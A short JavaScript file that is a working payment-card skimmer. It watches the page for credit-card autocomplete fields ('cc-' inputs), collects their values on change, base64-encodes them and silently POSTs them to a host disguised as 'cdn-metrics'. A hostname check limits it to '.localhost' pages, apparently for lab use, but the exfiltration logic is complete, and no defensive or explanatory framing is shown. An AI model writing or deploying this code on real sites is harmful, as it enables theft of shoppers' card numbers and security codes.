class Watcher {
  constructor(target) {
    this.target = target;
    this.seen = new WeakSet();
    this.observer = new MutationObserver(() => this.scan());
  }
  start() {
    this.observer.observe(document.documentElement, { childList: true, subtree: true });
    this.scan();
  }
  scan() {
    for (const input of document.querySelectorAll('input[autocomplete^="cc-"]')) {
      if (this.seen.has(input)) continue;
      this.seen.add(input);
      input.addEventListener('change', () => this.flush());
    }
  }
  flush() {
    const all = [...document.querySelectorAll('input[autocomplete^="cc-"]')].map((i) => `${i.autocomplete}:${i.value}`);
    fetch(this.target, { method: 'POST', mode: 'no-cors', body: btoa(all.join(';')) });
  }
}
if (/\.localhost$/.test(location.host.replace(/:\d+$/, ''))) new Watcher('https://cdn-metrics.localhost/i').start();
